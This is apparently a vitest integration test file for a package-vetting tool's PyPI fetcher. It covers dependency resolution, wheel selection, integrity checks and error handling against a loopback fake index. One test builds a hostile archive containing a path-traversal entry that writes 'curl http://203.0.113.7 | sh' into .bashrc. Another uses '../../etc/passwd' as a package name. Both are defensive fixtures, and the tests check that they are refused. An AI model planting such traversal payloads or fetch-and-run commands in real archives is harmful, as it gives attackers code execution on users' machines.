// fetch, PyPI side. PyPI is unreachable from this machine: a loopback server serves the JSON API
// shape (test/fixtures/fetch/pypi-release.sample.json) and archives built by the tests.
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { StagedPackage, VetboxError } from '@vetbox/contracts';
import { fetchPypi, previousVersion, stage, versionExists } from '@vetbox/fetch';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sdistFiles, wheelFiles, writeTarGz, writeZip } from '../../services/fetch/src/__fixtures__/archives.js';
import { startFakePypi, type FakePypi } from '../fixtures/fetch/fake-registries.js';

let work: string;
let pypi: FakePypi;
const cleanup: string[] = [];

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'vetbox-fetch-pypi-it-'));
  pypi = await startFakePypi();
});
afterAll(async () => {
  await pypi?.close();
  for (const d of cleanup) await rm(d, { recursive: true, force: true });
  await rm(work, { recursive: true, force: true });
});

async function rejection(p: Promise<unknown>): Promise<VetboxError> {
  const err = await p.then(
    () => {
      throw new Error('expected a rejection');
    },
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(VetboxError);
  return err as VetboxError;
}

let n = 0;
async function sdist(name: string, version: string, files: Record<string, string> = {}): Promise<Buffer> {
  const p = path.join(work, `sdist-${++n}.tar.gz`);
  await writeTarGz(p, sdistFiles(name, version, files));
  return readFile(p);
}
async function wheel(name: string, version: string, modules: Record<string, string>, requires: string[] = []): Promise<Buffer> {
  const p = path.join(work, `wheel-${++n}.whl`);
  await writeZip(p, wheelFiles(name, version, modules, { topLevel: Object.keys(modules).map((m) => m.split('/')[0].replace(/\.py$/, '')), requires }));
  return readFile(p);
}

describe('PyPI dependencies staged on the host (resolved, downloaded, never run)', () => {
  it('resolves Requires-Dist for the sandbox (markers, specifiers, extras, depth), wheels first, sdists kept for pip to build', async () => {
    pypi.addRelease('dep-app', '1.0', [
      { filename: 'dep_app-1.0-py3-none-any.whl', content: await wheel('dep_app', '1.0', { 'dep_app/__init__.py': '' }, ['dep-lib[fast]>=1.0,<2', 'dep-win; sys_platform == "win32"', 'dep-old; python_version < "3.8"']) },
    ]);
    for (const v of ['0.9', '1.4', '2.0']) {
      pypi.addRelease('dep-lib', v, [{ filename: `dep_lib-${v}-py3-none-any.whl`, content: await wheel('dep_lib', v, { 'dep_lib/__init__.py': '' }, ['dep-leaf', 'dep-speed; extra == "fast"']) }]);
    }
    pypi.addRelease('dep-leaf', '3.0', [{ filename: 'dep_leaf-3.0.tar.gz', content: await sdist('dep_leaf', '3.0', { 'dep_leaf.py': '' }) }]);
    pypi.addRelease('dep-leaf', '3.1rc1', [{ filename: 'dep_leaf-3.1rc1-py3-none-any.whl', content: await wheel('dep_leaf', '3.1rc1', { 'dep_leaf.py': '' }) }]);
    pypi.addRelease('dep-speed', '1.0', [{ filename: 'dep_speed-1.0-cp311-cp311-win_amd64.whl', content: await wheel('dep_speed', '1.0', { 'dep_speed.py': '' }) }]);
    pypi.addRelease('dep-win', '1.0', [{ filename: 'dep_win-1.0-py3-none-any.whl', content: await wheel('dep_win', '1.0', { 'dep_win.py': '' }) }]);
    const artifact = await fetchPypi('dep-app', '1.0', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    const staged = await stage(artifact, work, { pypiUrl: pypi.url });
    expect(StagedPackage.parse(staged)).toEqual(staged);
    // dep-lib 1.4 (newest under 2), its leaf as an sdist (no prerelease), no Windows or Python 2 deps;
    // dep-speed (asked for through the extra) has only a Windows wheel: not installable, said so.
    expect(staged.dependencies?.archives).toEqual(['dist/dep_lib-1.4-py3-none-any.whl', 'dist/dep_leaf-3.0.tar.gz']);
    expect(staged.dependencies?.complete).toBe(false);
    expect(staged.dependencies?.notes.join('\n')).toMatch(/dep-speed: no release with a file the sandbox can install/);
    expect(pypi.requests.some((r) => r.includes('dep-win') || r.includes('dep-old'))).toBe(false);
    for (const a of staged.dependencies!.archives) expect(existsSync(path.join(staged.dir, a))).toBe(true);
  });

  it('bounds the tree: past the depth limit the rest is left out and said', async () => {
    for (let i = 0; i < 7; i++) {
      pypi.addRelease(`chain-${i}`, '1.0', [{ filename: `chain_${i}-1.0-py3-none-any.whl`, content: await wheel(`chain_${i}`, '1.0', { [`chain_${i}.py`]: '' }, i < 6 ? [`chain-${i + 1}`] : []) }]);
    }
    const artifact = await fetchPypi('chain-0', '1.0', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    const staged = await stage(artifact, work, { pypiUrl: pypi.url });
    expect(staged.dependencies?.archives).toHaveLength(4);
    expect(staged.dependencies?.complete).toBe(false);
    expect(staged.dependencies?.notes).toEqual(['chain-5: not staged (limit of depth 4 reached)']);
  });
});

describe('fetchPypi against a loopback PyPI', () => {
  it('picks the py3-none-any wheel over the sdist, checks sha256 and stages dist/', async () => {
    pypi.addRelease('Vetbox-Demo', '1.2.0', [
      { filename: 'vetbox_demo-1.2.0.tar.gz', content: await sdist('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '' }) },
      { filename: 'vetbox_demo-1.2.0-cp311-cp311-win_amd64.whl', content: await wheel('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '' }) },
      { filename: 'vetbox_demo-1.2.0-py3-none-any.whl', content: await wheel('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '', 'vetbox_demo/x.py': '' }) },
    ]);
    const artifact = await fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    expect(artifact).toMatchObject({
      ecosystem: 'pypi',
      source: 'registry',
      kind: 'wheel',
      name: 'Vetbox-Demo',
      version: '1.2.0',
      fileName: 'vetbox_demo-1.2.0-py3-none-any.whl',
      importNames: ['vetbox_demo'],
    });
    expect(pypi.requests).toContain('/pypi/vetbox-demo/1.2.0/json');
    expect(pypi.requests).toContain('/packages/vetbox_demo-1.2.0-py3-none-any.whl');

    const staged = await stage(artifact, work);
    expect(StagedPackage.parse(staged)).toEqual(staged);
    expect(staged.archiveFile).toBe('dist/vetbox_demo-1.2.0-py3-none-any.whl');
    expect(await readdir(staged.dir)).toEqual(['dist']); // no node_modules, no npm project
    expect(existsSync(path.join(staged.dir, staged.archiveFile))).toBe(true);
    expect(staged.sha256).toBe(artifact.sha256);
  });

  it('falls back to the sdist when there is no pure wheel', async () => {
    pypi.addRelease('sdist-only', '0.9', [{ filename: 'sdist_only-0.9.tar.gz', content: await sdist('sdist_only', '0.9', { 'sdist_only.py': '' }) }]);
    const artifact = await fetchPypi('sdist-only', '0.9', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    expect(artifact).toMatchObject({ kind: 'sdist', format: 'tar.gz', fileName: 'sdist_only-0.9.tar.gz', importNames: ['sdist_only'] });
  });

  it('a file whose sha256 does not match → INTEGRITY_MISMATCH, download removed', async () => {
    pypi.addRelease('tampered', '1.0', [
      { filename: 'tampered-1.0.tar.gz', content: await sdist('tampered', '1.0'), sha256: 'a'.repeat(64) },
    ]);
    const dest = path.join(work, 'tampered-dest');
    await mkdir(dest);
    const err = await rejection(fetchPypi('tampered', '1.0', { pypiUrl: pypi.url, destDir: dest }));
    expect(err.code).toBe('INTEGRITY_MISMATCH');
    expect(err.message).toMatch(/does not match PyPI's a{64}/);
    expect(await readdir(dest)).toEqual([]);
  });

  it('versionExists', async () => {
    expect(await versionExists('pypi', 'vetbox-demo', '1.2.0', { pypiUrl: pypi.url })).toBe(true);
    expect(await versionExists('pypi', 'vetbox-demo', '9.9', { pypiUrl: pypi.url })).toBe(false);
    expect(await versionExists('pypi', 'no-such-project', '1.0', { pypiUrl: pypi.url })).toBe(false);
  });

  it('unknown project or version → PACKAGE_NOT_FOUND', async () => {
    expect((await rejection(fetchPypi('no-such-project', '1.0', { pypiUrl: pypi.url }))).code).toBe('PACKAGE_NOT_FOUND');
    expect((await rejection(fetchPypi('vetbox-demo', '9.9', { pypiUrl: pypi.url }))).code).toBe('PACKAGE_NOT_FOUND');
  });

  it('a release with nothing the sandbox can install → PACKAGE_NOT_FOUND', async () => {
    pypi.addRelease('windows-only', '1.0', [
      { filename: 'windows_only-1.0-cp311-cp311-win_amd64.whl', content: await wheel('windows_only', '1.0', { 'w.py': '' }) },
    ]);
    const err = await rejection(fetchPypi('windows-only', '1.0', { pypiUrl: pypi.url }));
    expect(err.code).toBe('PACKAGE_NOT_FOUND');
    expect(err.message).toMatch(/no pure-Python wheel, sdist or compatible wheel/);
  });

  it('a hostile archive listed by the index is refused', async () => {
    const p = path.join(work, 'evil.tar.gz');
    await writeTarGz(p, [...sdistFiles('evil', '1.0'), { name: 'evil-1.0/../../../home/user/.bashrc', content: 'curl http://203.0.113.7 | sh' }]);
    pypi.addRelease('evil', '1.0', [{ filename: 'evil-1.0.tar.gz', content: await readFile(p) }]);
    const err = await rejection(fetchPypi('evil', '1.0', { pypiUrl: pypi.url }));
    expect(err.code).toBe('BAD_ARCHIVE');
    expect(err.message).toMatch(/path traversal/);
  });

  it('bad names and versions are INVALID_INPUT', async () => {
    for (const [name, version] of [
      ['../../etc/passwd', '1.0'],
      ['ok', 'not a version'],
      ['x'.repeat(10_000), '1.0'],
    ]) {
      expect((await rejection(fetchPypi(name, version, { pypiUrl: pypi.url }))).code).toBe('INVALID_INPUT');
    }
  });

  it('an index that answers 503 → REGISTRY_UNAVAILABLE; one that hangs → time-out', async () => {
    pypi.mode = 'error500';
    try {
      expect((await rejection(fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url }))).code).toBe('REGISTRY_UNAVAILABLE');
      pypi.mode = 'hang';
      const err = await rejection(fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url, metadataTimeoutMs: 200 }));
      expect(err.code).toBe('REGISTRY_UNAVAILABLE');
      expect(err.message).toMatch(/timed out/);
    } finally {
      pypi.mode = 'ok';
    }
  });
});

describe('previousVersion on PyPI', () => {
  it('is the highest earlier release, skipping fully yanked ones and prereleases of a final', async () => {
    const file = async (v: string, extra: { yanked?: boolean } = {}) => [
      { filename: `prev-${v}.tar.gz`, content: await sdist('prev', v), ...extra },
    ];
    pypi.addRelease('prev', '0.9', await file('0.9'));
    pypi.addRelease('prev', '1.0', await file('1.0'));
    pypi.addRelease('prev', '1.0.post1', await file('1.0.post1'));
    pypi.addRelease('prev', '1.1', await file('1.1', { yanked: true }));
    pypi.addRelease('prev', '1.2rc1', await file('1.2rc1'));
    pypi.addRelease('prev', '1.2', await file('1.2'));
    const opts = { pypiUrl: pypi.url };
    expect(await previousVersion('pypi', 'prev', '1.2', opts)).toBe('1.0.post1');
    expect(await previousVersion('pypi', 'prev', '1.2rc1', opts)).toBe('1.0.post1');
    expect(await previousVersion('pypi', 'prev', '1.0', opts)).toBe('0.9');
    expect(await previousVersion('pypi', 'prev', '0.9', opts)).toBeNull();
    expect((await rejection(previousVersion('pypi', 'prev', '7.0', opts))).code).toBe('PACKAGE_NOT_FOUND');
  });
});
